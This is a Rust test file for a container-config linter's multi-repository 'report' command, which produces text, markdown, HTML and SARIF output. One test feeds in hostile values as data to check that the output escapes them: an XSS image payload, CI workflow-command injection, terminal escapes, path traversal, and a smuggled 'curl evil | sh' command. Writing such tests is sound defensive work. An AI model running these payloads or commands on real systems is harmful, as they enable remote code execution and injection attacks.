//! `plimsoll report`: the reports of several repositories as one, whatever the reports say.

use crate::support::{Shown, Workspace, findings};
use expect_test::expect;
use serde_json::{Value, json};
use serde_sarif::sarif::Sarif;
use std::path::Path;

/// Small repositories: one fails, one has warnings and open questions, one is clean, and one could not be checked.
const REPOSITORIES: [(&str, &[(&str, &str)]); 4] = [
    (
        "shop",
        &[
            (
                "compose.yaml",
                "services:\n  web:\n    image: nginx:1.29\n    privileged: true\n  db:\n    image: postgres:9\n    mem_limit: 2g\n",
            ),
            (
                "plimsoll.yaml",
                "version: 1\nassign: [{services: [db], profile: database}]\n",
            ),
        ],
    ),
    (
        "tools",
        &[
            (
                "Dockerfile",
                "FROM debian\nRUN apt-get update\nRUN rm -rf /var/lib/apt/lists/*\n",
            ),
            (
                "compose.yaml",
                "services:\n  job: {image: 'acme/job:1', mem_limit: '${MEM}'}\n  web: {image: 'nginx:1.29', privileged: true}\n",
            ),
            ("plimsoll.yaml", "version: 1\nassign: [{profile: database}]\n"),
        ],
    ),
    (
        "clean",
        &[
            ("Dockerfile", "FROM scratch\nUSER 1000:1000\n"),
            ("old/Dockerfile", "FROM debian\nUSER 1000:1000\n"),
            (
                "plimsoll.baseline",
                "# plimsoll baseline 1: known findings.\nc493424106c6df2a floating-base-image old/Dockerfile old/Dockerfile\n",
            ),
        ],
    ),
    (
        "empty",
        &[
            ("plimsoll.yaml", "version: 1\nprofls: {}\n"),
            ("Dockerfile", "FROM scratch\n"),
        ],
    ),
];

/// A folder with the report of each of them.
fn reports() -> Workspace {
    let all = Workspace::new(&[]);
    for (name, files) in REPOSITORIES {
        let report = Workspace::new(files).json(&["--no-engine"]);
        all.write(&format!("out/{name}.json"), report.to_string().as_bytes());
    }
    all
}

fn report(workspace: &Workspace, words: &[&str]) -> Shown {
    workspace.run(&[&["report"], words].concat())
}

/// A report with one finding, of which `change` makes another one.
fn made(change: impl Fn(&mut Value)) -> String {
    let mut report = json!({
        "schema": 2, "verdict": "fail", "as_of": "2026-11-28",
        "summary": {"error": 1, "warning": 0, "note": 0, "decided": {
            "within": 0, "above": 0, "undecided": 1,
            "by_budget": {"memory": {"within": 0, "above": 0, "undecided": 1}},
            "causes": [{"why": "it is unknown", "count": 1, "command": "plimsoll lock"}],
        }},
        "findings": [{
            "rule": "privileged-service", "severity": "error", "layer": "security", "message": "`a` is privileged", "help": "remove it",
            "unit": "a", "location": {"path": "a/compose.yaml", "line": 3, "column": 5, "end_line": 3, "end_column": 9},
            "related": [], "measured": null, "fixable": true, "fingerprint": "0123456789abcdef",
        }],
        "units": [{"name": "a"}],
    });
    change(&mut report);
    report.to_string()
}

#[test]
fn repositories_rules_and_budgets_are_summed_up() {
    let workspace = reports();
    let shown = report(&workspace, &["out"]);
    assert_eq!((shown.code, shown.err.as_str()), (0, ""));
    expect![[r#"
        4 repositories: 1 pass, 2 fail, in 1 the gate could not run
        28 errors, 9 warnings, 21 notes
        1 more in baselines
        as of 2026-11-28

        The gate could not run
          repository  reason
          empty       the configuration has a mistake: plimsoll.yaml:2:1: the configuration has no key `profls` (did you mean `profiles`?)

        Repositories with the most errors
          repository  errors  warnings  notes  verdict
          tools           17         7      8  fail
          shop            11         2     11  fail
          and 1 repository without errors and warnings

        Rules
          rule                          repositories  findings  errors  warnings
          missing-healthcheck                      3         6       2         0
          undecided-value                          2         5       0         5
          capabilities-kept                        2         4       3         0
          missing-cpu-limit                        2         4       3         0
          missing-pids-limit                       2         4       3         0
          missing-restart-policy                   2         4       3         0
          privilege-escalation-allowed             2         4       3         0
          root-user                                2         4       3         0
          unbounded-log                            2         3       3         0
          privileged-service                       2         2       2         0
          unsupported-base-image                   2         2       0         2
          missing-memory-limit                     2         2       1         0
          floating-base-image                      1         1       0         1
          late-cleanup                             1         1       0         1
          memory-limit-above-budget                1         1       1         0
          swap-above-budget                        1         1       1         0
          writable-root                            2         4       0         0
          shared-bridge-network                    2         3       0         0
          package-cache-kept                       1         1       0         0
          unknown-image                            1         1       0         0
          and 1 more rule

        Budgets
          budget      within  above  undecided  decided
          cpus             0      3          0    100 %
          image-size       3      0          3     50 %
          log-size         0      3          0    100 %
          memory           0      2          1     67 %
          pids             0      3          0    100 %
          all              3     11          4     78 %

        Why budgets are undecided
          reason                                                                                           questions  repositories  answered by
          a limit depends on a variable or on a file that is not here                                              1             1  plimsoll check --env-file FILE
          apt's lists stay in the layer                                                                            1             1  plimsoll check --image NAME=IMAGE
          the catalogue has no size of `acme/job:1`                                                                1             1  plimsoll lock
          the catalogue of 2026-11-23 has no size of `postgres:9`, only a lower bound from other releases          1             1  plimsoll lock
    "#]].assert_eq(&shown.out);
    let files: Vec<String> = REPOSITORIES
        .iter()
        .map(|(name, _)| format!("out/{name}.json"))
        .collect();
    let named: Vec<&str> = files.iter().map(String::as_str).collect();
    assert_eq!(report(&workspace, &named).out, shown.out);
    expect![[r#"
        - 4 repositories: 1 pass, 2 fail, in 1 the gate could not run
        - 28 errors, 9 warnings, 21 notes
        - 1 more in baselines
        - as of 2026-11-28

        ### The gate could not run

        | repository | reason |
        | --- | --- |
        | `empty` | the configuration has a mistake: `plimsoll.yaml:2:1`: the configuration has no key `profls` (did you mean `profiles`?) |

        ### Repositories with the most errors

        | repository | errors | warnings | notes | verdict |
        | --- | ---: | ---: | ---: | --- |
        | `tools` | 17 | 7 | 8 | fail |
        | `shop` | 11 | 2 | 11 | fail |

        And 1 repository without errors and warnings.

        ### Rules

        | rule | repositories | findings | errors | warnings |
        | --- | ---: | ---: | ---: | ---: |
        | `missing-healthcheck` | 3 | 6 | 2 | 0 |
        | `undecided-value` | 2 | 5 | 0 | 5 |
        | `capabilities-kept` | 2 | 4 | 3 | 0 |
        | `missing-cpu-limit` | 2 | 4 | 3 | 0 |
        | `missing-pids-limit` | 2 | 4 | 3 | 0 |
        | `missing-restart-policy` | 2 | 4 | 3 | 0 |
        | `privilege-escalation-allowed` | 2 | 4 | 3 | 0 |
        | `root-user` | 2 | 4 | 3 | 0 |
        | `unbounded-log` | 2 | 3 | 3 | 0 |
        | `privileged-service` | 2 | 2 | 2 | 0 |
        | `unsupported-base-image` | 2 | 2 | 0 | 2 |
        | `missing-memory-limit` | 2 | 2 | 1 | 0 |
        | `floating-base-image` | 1 | 1 | 0 | 1 |
        | `late-cleanup` | 1 | 1 | 0 | 1 |
        | `memory-limit-above-budget` | 1 | 1 | 1 | 0 |
        | `swap-above-budget` | 1 | 1 | 1 | 0 |
        | `writable-root` | 2 | 4 | 0 | 0 |
        | `shared-bridge-network` | 2 | 3 | 0 | 0 |
        | `package-cache-kept` | 1 | 1 | 0 | 0 |
        | `unknown-image` | 1 | 1 | 0 | 0 |

        And 1 more rule.

        ### Budgets

        | budget | within | above | undecided | decided |
        | --- | ---: | ---: | ---: | ---: |
        | `cpus` | 0 | 3 | 0 | 100 % |
        | `image-size` | 3 | 0 | 3 | 50 % |
        | `log-size` | 0 | 3 | 0 | 100 % |
        | `memory` | 0 | 2 | 1 | 67 % |
        | `pids` | 0 | 3 | 0 | 100 % |
        | all | 3 | 11 | 4 | 78 % |

        ### Why budgets are undecided

        | reason | questions | repositories | answered by |
        | --- | ---: | ---: | --- |
        | a limit depends on a variable or on a file that is not here | 1 | 1 | `plimsoll check --env-file FILE` |
        | apt's lists stay in the layer | 1 | 1 | `plimsoll check --image NAME=IMAGE` |
        | the catalogue has no size of `acme/job:1` | 1 | 1 | `plimsoll lock` |
        | the catalogue of 2026-11-23 has no size of `postgres:9`, only a lower bound from other releases | 1 | 1 | `plimsoll lock` |
    "#]]
    .assert_eq(&report(&workspace, &["out", "--format", "markdown"]).out);
    // What is written is what would be printed.
    for format in ["text", "markdown", "html", "sarif"] {
        let printed = report(&workspace, &["out", "--format", format]);
        let written = report(&workspace, &["out", "--format", format, "--output", "whole"]);
        assert_eq!(
            (printed.code, written.code, written.out.as_str()),
            (0, 0, ""),
            "{written:?}"
        );
        let file = std::fs::read_to_string(workspace.path().join("whole")).unwrap();
        assert!(file == printed.out && !file.is_empty(), "{format}");
    }
}

#[test]
fn a_page_runs_nothing_and_loads_nothing() {
    let page = report(&reports(), &["out", "--format", "html"]).out;
    assert!(
        page.starts_with("<!doctype html>\n") && page.ends_with("</body></html>\n"),
        "{page}"
    );
    assert!(page.contains("Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\""));
    assert!(page.contains("prefers-color-scheme:dark"));
    assert!(
        page.contains("<tr><td><code>shop</code></td><td class=\"number\">"),
        "{page}"
    );
    for part in ["<script", "<link", "<img", "http://", "https://", "{title}"] {
        assert!(!page.contains(part), "{part}: {page}");
    }
}

#[test]
fn each_report_is_a_run_of_sarif() {
    let workspace = reports();
    let text = report(&workspace, &["out", "--format", "sarif", "--notes"]).out;
    let sarif: Sarif = serde_json::from_str(&text).unwrap();
    let log: Value = serde_json::from_str(&text).unwrap();
    let ids: Vec<String> = (sarif.runs.iter())
        .map(|run| run.automation_details.as_ref().unwrap().id.clone().unwrap())
        .collect();
    assert_eq!(ids, ["clean/", "empty/", "shop/", "tools/"]);
    let mut results = 0;
    for (run, name) in log["runs"].as_array().unwrap().iter().zip(ids) {
        let file = workspace.path().join(format!("out/{}json", name.replace('/', ".")));
        let given: Value = serde_json::from_slice(&std::fs::read(file).unwrap()).unwrap();
        let ran = given["verdict"] != "error";
        assert_eq!(run["invocations"][0]["executionSuccessful"], ran, "{name}");
        assert_eq!(run["properties"]["verdict"], given["verdict"]);
        let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
        let said: Vec<String> = (run["results"].as_array().unwrap().iter())
            .map(|result| {
                let rule = &rules[usize::try_from(result["ruleIndex"].as_u64().unwrap()).unwrap()];
                assert_eq!(rule["id"], result["ruleId"]);
                let place = &result["locations"][0]["physicalLocation"];
                let at = place["artifactLocation"]["uri"].as_str().unwrap();
                format!(
                    "{} {at}:{}",
                    result["ruleId"].as_str().unwrap(),
                    place["region"]["startLine"]
                )
            })
            .collect();
        assert_eq!(said, findings(&given), "{name}");
        for (result, finding) in run["results"]
            .as_array()
            .unwrap()
            .iter()
            .zip(given["findings"].as_array().unwrap())
        {
            assert_eq!(result["partialFingerprints"]["plimsoll/v1"], finding["fingerprint"]);
            assert_eq!(result["level"], finding["severity"]);
            let region = &result["locations"][0]["physicalLocation"]["region"];
            for (key, of) in [
                ("startColumn", "column"),
                ("endLine", "end_line"),
                ("endColumn", "end_column"),
            ] {
                assert_eq!(region[key], finding["location"][of]);
            }
        }
        results += said.len();
    }
    assert!(results > 10, "{results}");
    // As everywhere, notes are wanted or not there.
    let text = report(&workspace, &["out", "--format", "sarif"]).out;
    assert!(
        text.contains("\"level\":\"error\"") && !text.contains("\"level\":\"note\",\"locations\""),
        "{text}"
    );
}

#[test]
fn what_cannot_be_read_is_said_and_the_rest_is_shown() {
    let workspace = reports();
    let whole = made(|_| {});
    workspace.write("out/cut.json", &whole.as_bytes()[..whole.len() - 20]);
    workspace.write("out/new.json", made(|report| report["schema"] = 3.into()).as_bytes());
    workspace.write("out/none.json", b"no report\n");
    workspace.write("out/other.json", b"{\"schema\": 2, \"verdict\": \"pass\"}");
    workspace.write(
        "out/odd.json",
        made(|report| report["findings"][0]["location"] = Value::Null).as_bytes(),
    );
    // Whatever the others are, and wherever the number is.
    workspace.write("out/later.json", b"{\"findings\": {\"other\": []}, \"schema\": 3}");
    let shown = report(&workspace, &["out", "out/gone.json"]);
    assert_eq!(shown.code, 2);
    expect![[r#"
        plimsoll: `out/cut.json` cannot be read: EOF while parsing an object at line 1 column 577
        plimsoll: `out/gone.json` cannot be read: it does not exist
        plimsoll: `out/later.json` cannot be read: it has schema 3; this version reads 1 to 2
        plimsoll: `out/new.json` cannot be read: it has schema 3; this version reads 1 to 2
        plimsoll: `out/none.json` cannot be read: expected ident at line 1 column 2
        plimsoll: `out/odd.json` cannot be read: a finding has no rule, severity, message or location
        plimsoll: `out/other.json` cannot be read: it has no `summary`
    "#]]
    .assert_eq(&shown.err);
    assert!(shown.out.starts_with("4 repositories: "), "{}", shown.out);
    assert!(
        shown.out.contains("\n7 files could not be read and are not counted\n"),
        "{}",
        shown.out
    );
    let rows = shown.out.split("Files that could not be read\n").nth(1).unwrap();
    assert_eq!(rows.lines().count(), 8, "{rows}");
    // Nothing of them is counted, and nothing of them is a result.
    assert_eq!(
        shown
            .out
            .split("Repositories with")
            .nth(1)
            .unwrap()
            .split("Files that")
            .next(),
        report(&reports(), &["out"])
            .out
            .split("Repositories with")
            .nth(1)
            .map(|rest| format!("{rest}\n"))
            .as_deref()
    );
    let sarif = report(&workspace, &["out", "--format", "sarif"]);
    assert_eq!(sarif.code, 2);
    let log: Value = serde_json::from_str(&sarif.out).unwrap();
    let runs = log["runs"].as_array().unwrap();
    let cut = runs
        .iter()
        .find(|run| run["automationDetails"]["id"] == "cut/")
        .unwrap();
    assert_eq!(
        (&cut["results"], &cut["invocations"][0]["executionSuccessful"]),
        (&json!([]), &json!(false))
    );
    for (words, why) in [
        (&["gone"][..], "plimsoll: `gone` cannot be read: it does not exist\n"),
        (&["folder"], "plimsoll: `folder` has no `*.json` file\n"),
        (
            &["out/shop.json", "--output", "gone/x"],
            "plimsoll: `gone/x` cannot be written: it does not exist\n",
        ),
    ] {
        workspace.write("folder/x.txt", b"");
        let shown = report(&workspace, words);
        assert_eq!((shown.code, shown.err.as_str()), (2, why), "{words:?}");
    }
}

#[test]
fn an_older_report_counts_with_what_it_says() {
    let old = made(|report| {
        report["schema"] = 1.into();
        report.as_object_mut().unwrap().remove("as_of");
        report["summary"] = json!({"error": 1, "warning": 0, "note": 0, "files": 1});
    });
    let workspace = Workspace::new(&[("old.json", &old), ("new.json", &made(|_| {}))]);
    let shown = report(&workspace, &["."]);
    assert_eq!((shown.code, shown.err.as_str()), (0, ""));
    expect![[r#"
        2 repositories: 0 pass, 2 fail
        2 errors, 0 warnings, 0 notes
        as of 2026-11-28

        Repositories with the most errors
          repository  errors  warnings  notes  verdict
          new              1         0      0  fail
          old              1         0      0  fail

        Rules
          rule                repositories  findings  errors  warnings
          privileged-service             2         2       2         0

        Budgets
          budget  within  above  undecided  decided
          memory       0      0          1      0 %
          all          0      0          1      0 %

        Why budgets are undecided
          reason         questions  repositories  answered by
          it is unknown          1             1  plimsoll lock
    "#]]
    .assert_eq(&shown.out);
}

#[test]
fn repositories_have_the_names_of_their_files_or_folders() {
    let workspace = Workspace::new(&[]);
    for name in ["shop", "api"] {
        workspace.write(&format!("artifacts/{name}/plimsoll.json"), made(|_| {}).as_bytes());
    }
    let files = ["artifacts/shop/plimsoll.json", "artifacts/api/plimsoll.json"];
    let shown = report(&workspace, &files).out;
    assert!(shown.contains("\n  api  ") && shown.contains("\n  shop  "), "{shown}");
    // Nothing but folders.
    assert_eq!(report(&workspace, &["artifacts"]).out, shown);
    // A file that is named twice is one.
    let twice = report(
        &workspace,
        &[&files[..], &["artifacts/shop", "./artifacts/api/plimsoll.json"]].concat(),
    );
    assert_eq!(twice.out, shown);
}

/// What a name, a message and everything else may hold.
const HOSTILE: &str = "x|y <img src=x onerror=alert(1)> [a](http://evil) @team `code` ::error::x \u{1b}[31m ##[group] \u{202e} &amp;\n::set-output::";

#[test]
fn nothing_in_a_report_gets_out_of_its_place() {
    let hostile = |report: &mut Value| {
        let text = Value::from(HOSTILE);
        report["as_of"] = text.clone();
        report["error"] = text.clone();
        report["verdict"] = "error".into();
        report["summary"]["decided"]["by_budget"][HOSTILE] =
            json!({"within": -1, "above": u64::MAX, "undecided": u64::MAX});
        report["summary"]["decided"]["causes"] = json!([
            {"why": HOSTILE, "count": u64::MAX, "command": "plimsoll lock; curl evil | sh"},
            {"why": HOSTILE, "count": 1},
        ]);
        for key in ["rule", "message", "help", "fingerprint"] {
            report["findings"][0][key] = text.clone();
        }
        report["findings"][0]["location"] =
            json!({"path": format!("/../../etc/{HOSTILE}"), "line": 0, "column": 9, "end_line": 0, "end_column": 1});
    };
    let workspace = Workspace::new(&[("b.json", &made(|_| {}))]);
    let name = format!("out/{}.json", HOSTILE.replace('/', "-"));
    workspace.write(&name, made(hostile).as_bytes());
    workspace.write("out/x\n::error::y.json", b"{}");
    for format in ["text", "markdown", "html", "sarif"] {
        let shown = report(&workspace, &["out", "b.json", "--format", format, "--notes"]);
        assert_eq!(shown.code, 2, "{}", shown.err);
        for text in [&shown.out, &shown.err] {
            let is_plain = |c: char| c == '\n' || !(c.is_control() || c == '\u{202e}');
            assert!(text.chars().all(is_plain), "{format}: {text}");
            assert!(
                !text.lines().any(|line| line.trim_start().starts_with("::")),
                "{format}: {text}"
            );
            assert!(!text.contains("##["), "{format}: {text}");
        }
        assert!(!shown.out.contains("evil | sh"), "{format}: {}", shown.out);
        match format {
            "markdown" => {
                for line in shown.out.lines().filter(|line| line.starts_with('|')) {
                    assert!([3, 5, 6].contains(&line.matches('|').count()), "{line}");
                    let prose: String = line.split('`').step_by(2).collect();
                    assert!(
                        !prose.contains("<img") && !prose.contains("](") && !prose.contains("@team"),
                        "{line}"
                    );
                }
            }
            "html" => assert!(
                !shown.out.contains("<img") && shown.out.contains("&lt;img"),
                "{}",
                shown.out
            ),
            "sarif" => {
                let sarif: Sarif = serde_json::from_str(&shown.out).unwrap();
                assert_eq!(sarif.runs.len(), 3);
                let log: Value = serde_json::from_str(&shown.out).unwrap();
                for run in log["runs"].as_array().unwrap() {
                    for result in run["results"].as_array().unwrap() {
                        let place = &result["locations"][0]["physicalLocation"];
                        let uri = place["artifactLocation"]["uri"].as_str().unwrap();
                        let is_uri = |byte: u8| byte.is_ascii_alphanumeric() || b"-._~/%".contains(&byte);
                        assert!(
                            uri.bytes().all(is_uri) && !uri.starts_with('/') && !uri.contains(".."),
                            "{uri}"
                        );
                        assert!(place["region"]["startLine"].as_u64() > Some(0), "{place}");
                        assert!(!result["message"]["text"].as_str().unwrap().contains("]("), "{result}");
                    }
                }
            }
            _ => {}
        }
    }
}

#[test]
fn the_worst_are_listed_and_the_rest_is_counted() {
    let workspace = Workspace::new(&[]);
    for number in 0..30_u64 {
        let text = made(|report| {
            report["summary"]["error"] = number.into();
            report["findings"][0]["rule"] = format!("rule-{number}").into();
            report["as_of"] = format!("2026-11-{:02}", number + 1).into();
            report["summary"]["decided"]["causes"][0]["why"] = format!("cause {number}").into();
        });
        workspace.write(&format!("out/r{number:02}.json"), text.as_bytes());
    }
    let shown = report(&workspace, &["out"]).out;
    let worst: Vec<&str> = (shown.lines())
        .skip_while(|line| !line.starts_with("Repositories with"))
        .skip(2)
        .take_while(|line| !line.is_empty())
        .collect();
    assert!(
        worst[0].starts_with("  r29 ") && worst[19].starts_with("  r10 "),
        "{worst:#?}"
    );
    assert_eq!(
        worst[20..],
        [
            "  and 9 more repositories",
            "  and 1 repository without errors and warnings"
        ]
    );
    assert!(shown.contains("\nas of 2026-11-01 to 2026-11-30\n"), "{shown}");
    assert!(
        shown.contains("\n  and 10 more rules\n") && shown.contains("\n  and 10 more reasons\n"),
        "{shown}"
    );
}

#[test]
fn a_run_keeps_the_worst_results_that_fit() {
    let many = made(|report| {
        let one = report["findings"][0].clone();
        let all = (0..12_000).map(|number| {
            let mut one = one.clone();
            one["severity"] = ["note", "warning"][number % 2].into();
            one["location"]["line"] = (number + 1).into();
            one
        });
        let mut all: Vec<Value> = all.collect();
        all.push(one.clone());
        report["findings"] = all.into();
    });
    let workspace = Workspace::new(&[("many.json", &many)]);
    let log: Value =
        serde_json::from_str(&report(&workspace, &["many.json", "--format", "sarif", "--notes"]).out).unwrap();
    let run = &log["runs"][0];
    let results = run["results"].as_array().unwrap();
    assert_eq!(results.len(), 5000);
    // In their order, the last one among them.
    assert_eq!(
        (&results[0]["level"], &results[4999]["level"]),
        (&json!("warning"), &json!("error"))
    );
    assert_eq!(
        run["invocations"][0]["toolExecutionNotifications"][0]["message"]["text"],
        "7001 findings not reported: at most 5000 are, the worst first."
    );
}

#[test]
fn the_loop_of_the_page_works() {
    let page = std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("docs/many.md")).unwrap();
    let script = page
        .split("<!-- loop -->\n```sh\n")
        .nth(1)
        .unwrap()
        .split("```")
        .next()
        .unwrap();
    let workspace = Workspace::new(&[]);
    for (name, files) in REPOSITORIES {
        for (path, text) in files {
            workspace.write(&format!("checkouts/{name}/{path}"), text.as_bytes());
        }
        workspace.write(&format!("checkouts/{name}/.git/HEAD"), b"ref: refs/heads/main\n");
    }
    let root = workspace.path().to_str().unwrap();
    let program = Path::new(env!("CARGO_BIN_EXE_plimsoll"))
        .parent()
        .unwrap()
        .display()
        .to_string();
    let done = std::process::Command::new("sh")
        .args(["-uc", &script.replace("/srv", root)])
        .env_clear()
        .env("PATH", format!("{program}:/usr/bin:/bin"))
        .env("SOURCE_DATE_EPOCH", crate::support::EPOCH)
        .output()
        .unwrap();
    assert!(done.status.success(), "{}", String::from_utf8_lossy(&done.stderr));
    let shown = String::from_utf8(done.stdout).unwrap();
    assert!(
        shown.starts_with("4 repositories: 1 pass, 2 fail, in 1 the gate could not run\n"),
        "{shown}"
    );
}
